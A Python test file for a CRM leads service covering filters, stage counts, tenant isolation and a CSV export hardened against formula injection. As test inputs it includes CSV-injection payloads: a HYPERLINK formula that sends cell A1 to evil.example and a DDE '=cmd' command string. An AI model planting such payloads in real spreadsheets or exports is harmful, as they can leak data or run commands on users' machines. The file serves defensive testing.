"""The Leads page's service: filters, counts, CSV export (formula-safe) and tenant isolation."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from db.models import Contact, Conversation, Role, utcnow
from db.tenancy import tenant_session
from runtime.access import Principal, UserError
from runtime.panel import leads


def _seed(workspace_id):
    now = utcnow()
    people = [
        ("Joana Prado", "+5511911110001", "joana@example.com", "qualified", 80, ["vip"], now - timedelta(hours=1)),
        ('=HYPERLINK("http://x")', "+5511911110002", None, "new", 0, [], now - timedelta(hours=3)),
        ("Carlos Lima", "+5511911110003", None, "new", 10, ["atacado"], None),
    ]
    with tenant_session(workspace_id) as s:
        for name, phone, email, stage, score, tags, last in people:
            c = Contact(
                workspace_id=workspace_id, phone=phone, name=name, email=email, stage=stage, score=score, tags=tags
            )
            s.add(c)
            s.flush()
            if last is not None:
                s.add(Conversation(workspace_id=workspace_id, contact_id=c.id, last_message_at=last))
        s.commit()


def test_leads_are_listed_newest_conversation_first_with_stage_counts(workspace):
    ws, *_ = workspace
    _seed(ws.workspace_id)
    owner = Principal(ws.user_id, ws.workspace_id, Role.owner)
    data = leads.list_leads(owner)
    assert [r["phone"] for r in data["leads"]] == ["+5511911110001", "+5511911110002", "+5511911110003"]
    assert data["leads"][0]["conversation_id"] and not data["leads"][2]["conversation_id"]
    assert data["stages"]["new"] == 2 and data["stages"]["qualified"] == 1 and data["stages"]["won"] == 0

    assert [r["name"] for r in leads.list_leads(owner, stage="qualified")["leads"]] == ["Joana Prado"]
    assert [r["name"] for r in leads.list_leads(owner, search="carlos")["leads"]] == ["Carlos Lima"]
    assert [r["name"] for r in leads.list_leads(owner, search="JOANA@example")["leads"]] == ["Joana Prado"]
    assert [r["phone"] for r in leads.list_leads(owner, search="1110003")["leads"]] == ["+5511911110003"]
    with pytest.raises(UserError):
        leads.list_leads(owner, stage="inventada")


def test_csv_export_follows_the_filters_and_defuses_formulas(workspace):
    ws, *_ = workspace
    _seed(ws.workspace_id)
    owner = Principal(ws.user_id, ws.workspace_id, Role.admin)
    rows = list(csv.reader(io.StringIO(leads.export_csv(owner, stage="new"))))
    assert rows[0][:4] == ["nome", "telefone", "email", "etapa"]
    names = sorted(r[0] for r in rows[1:])
    assert names == ['\'=HYPERLINK("http://x")', "Carlos Lima"]


def test_another_workspace_sees_none_of_them(workspace, make_workspace):
    ws, *_ = workspace
    _seed(ws.workspace_id)
    other = make_workspace("Outra")
    assert leads.list_leads(Principal(other.user_id, other.workspace_id, Role.owner))["leads"] == []


TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = [
    'x;=HYPERLINK("http://evil.example/?"&A1;"clique")',  # pt-BR Excel splits on ';'
    "a,=1+1",
    "Ana;+55 11;-2+3;@SUM(1)",
    'b;"=1+1"',  # a quoted cell after the split
    "c; =1+1",  # blanks before the formula
    "d\n=1+1",  # a new line that a foreign delimiter may turn into a new row
    "e;\t=1",
]


def test_csv_export_defuses_formulas_in_every_field_excel_may_split_on_semicolon_or_comma(workspace):
    ws, *_ = workspace
    with tenant_session(ws.workspace_id) as s:
        for i, name in enumerate(HOSTILE_NAMES):
            s.add(
                Contact(
                    workspace_id=ws.workspace_id,
                    phone=f"+55119111200{i:02d}",
                    name=name,
                    email=f"x{i}@example.com;=cmd|' /C calc'!A0",
                    tags=["ok", "=2+5", "vip;-1"],
                )
            )
        s.commit()
    out = leads.export_csv(Principal(ws.user_id, ws.workspace_id, Role.owner))
    for delimiter in (",", ";"):
        cells = [cell for row in csv.reader(io.StringIO(out), delimiter=delimiter) for cell in row]
        dangerous = [c for c in cells if c.lstrip(' "').startswith(TRIGGERS)]
        dangerous += [c for c in cells if c.startswith(TRIGGERS)]
        assert dangerous == [], (delimiter, dangerous)
    # Nothing is lost: with the file's own delimiter each value reads back, quote marks added.
    rows = list(csv.reader(io.StringIO(out)))
    assert 'x;\'=HYPERLINK("http://evil.example/?"&A1;"clique")' in [r[0] for r in rows]
    assert {r[6] for r in rows[1:]} == {"ok;'=2+5;vip;'-1"}
    # "+5511..." would be a formula too (Excel shows 5,5E+12): the phone stays text.
    assert all(r[1].startswith("'+5511") for r in rows[1:])
